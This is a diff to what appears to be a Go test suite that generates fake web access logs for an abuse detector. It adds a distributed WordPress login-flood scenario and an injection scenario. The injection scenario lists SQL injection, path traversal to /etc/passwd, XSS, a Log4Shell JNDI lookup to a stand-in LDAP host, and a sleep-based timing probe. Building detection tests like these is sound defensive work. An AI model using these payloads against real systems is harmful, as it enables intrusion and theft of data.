@@ -217,6 +217,17 @@ var stopped = []struct {
 			l.line(float64(i)*60, fmt.Sprintf("%d.%d.113.70", 20+i%200, 1+i%400/200), "POST", "/xmlrpc.php", 200, 400, "-", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:62.0) Gecko/20100101 Firefox/62.0")
 		}
 	}},
+	{"botnet", "the same from five hundred addresses, once each, with ever new user agents", func(l *accessLog) {
+		for i := range 500 {
+			l.line(float64(i)*120, fmt.Sprintf("%d.%d.113.71", 20+i%200, 1+i/200), "POST", "/wp-login.php", 200, 4500, "-", fmt.Sprintf("Mozilla/5.0 (Windows NT 6.%d; rv:%d.0) Gecko/20100101 Firefox/%d.0", i%4, i, i))
+		}
+	}},
+	{"injections", "one address tries attacks on parameters, of pages that are there", func(l *accessLog) {
+		words := []string{"1+UNION+SELECT+1,2,3", "..%2F..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C/script%3E", "1%27+or+%271%27=%271", "${jndi:ldap://192.0.2.9/a}", "sleep(5)"}
+		for i := range 120 {
+			l.line(float64(i)*30, "203.0.113.72", "GET", fmt.Sprintf("/article?id=%s&n=%d", words[i%len(words)], i), 200, 24000, "-", chrome)
+		}
+	}},
 	{"forged-crawler", "two hundred addresses that say to be Googlebot", func(l *accessLog) {
 		for i := range 600 {
 			l.line(float64(i)*0.5, fmt.Sprintf("203.%d.113.80", i%200), "GET", fmt.Sprintf("/article/%d", i), 200, 24000, "-", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
